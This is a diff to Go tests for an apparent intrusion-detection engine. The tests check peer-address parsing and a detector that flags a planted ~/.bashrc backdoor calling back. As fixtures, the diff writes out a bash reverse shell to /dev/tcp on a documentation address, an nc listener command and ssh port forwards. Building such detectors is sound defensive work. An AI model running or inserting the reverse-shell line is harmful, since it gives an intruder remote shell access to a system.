@@ -22,6 +22,9 @@ func TestNamedPeers(t *testing.T) {
 		{"nc 0.0.0.0 4444", nil},                // unspecified is no peer
 		{"echo 300.1.1.1:80", nil},              // not an address
 		{"sleep 10; echo version 1.2.3.4", nil}, // a version, no port
+		// a forward's target is where forwarded connections go
+		{"ssh -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", nil},
+		{"ssh -L 8080:10.0.0.5:80 jump", nil},
 	} {
 		if got := namedPeers(c.cmd); !slices.Equal(got, c.want) {
 			t.Errorf("namedPeers(%q) = %v, want %v", c.cmd, got, c.want)
@@ -31,9 +34,10 @@ func TestNamedPeers(t *testing.T) {
 
 // TestBackdoorCallback: a web shell appends a reverse shell to the web
 // account's ~/.bashrc; later a login shell of that account connects to
-// the named address: the callback, on stage 7, quoting the plant. The
-// planting command's own connection and a connection to another port are
-// not callbacks.
+// the named address: the backdoor fired, on stage 7, quoting the plant.
+// The planting command's own connection and a connection to another
+// address are not callbacks; the web shell reaching the same address is
+// said as only that.
 func TestBackdoorCallback(t *testing.T) {
 	e, err := New(Options{})
 	if err != nil {
@@ -51,9 +55,18 @@ func TestBackdoorCallback(t *testing.T) {
 	if fs := e.Observe(s.connect(20, 10, 33, "/usr/bin/dash", "203.0.113.9", 4444), s.tree); has(fs, "backdoor-callback") != nil {
 		t.Errorf("the planter's own connect is a callback: %v", ids(fs))
 	}
-	// a login shell of the account, started by sshd, reads the profile
+	// the intruder runs the planted command again through the web shell:
+	// the same address, but the plant did not start it
+	s.exec(50, 10, 33, "www-data", "/var/www/html", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+	fs = e.Observe(s.connect(50, 10, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
+	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Connection To An Address A Planted Backdoor Names" {
+		t.Errorf("the address reached another way: %v", fs)
+	}
+	// a login shell of the account (a login's audit session), started by
+	// sshd, reads the profile
 	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
-	s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/bash", "-bash")
+	login := s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/bash", "-bash")
+	login.Proc.AUID, login.Proc.SES = parser.NewID(33), parser.NewID(7)
 	if fs := e.Observe(s.connect(40, 30, 33, "/usr/bin/bash", "203.0.113.7", 4444), s.tree); has(fs, "backdoor-callback") != nil {
 		t.Errorf("another address is a callback: %v", ids(fs))
 	}
@@ -62,8 +75,8 @@ func TestBackdoorCallback(t *testing.T) {
 	if f == nil {
 		t.Fatalf("no callback: %v", ids(fs))
 	}
-	if f.Stage != StageCommandAndControl || f.Severity != SeverityHigh {
-		t.Errorf("callback on %v at %v, want command-and-control, high", f.Stage, f.Severity)
+	if f.Title != "Planted Backdoor Calls Back" || f.Stage != StageCommandAndControl || f.Severity != SeverityHigh {
+		t.Errorf("callback %q on %v at %v, want the backdoor firing, command-and-control, high", f.Title, f.Stage, f.Severity)
 	}
 	if len(f.Related) == 0 || f.Related[len(f.Related)-1].PID != 20 {
 		t.Errorf("the plant is not quoted beside the callback: %v", f.Related)
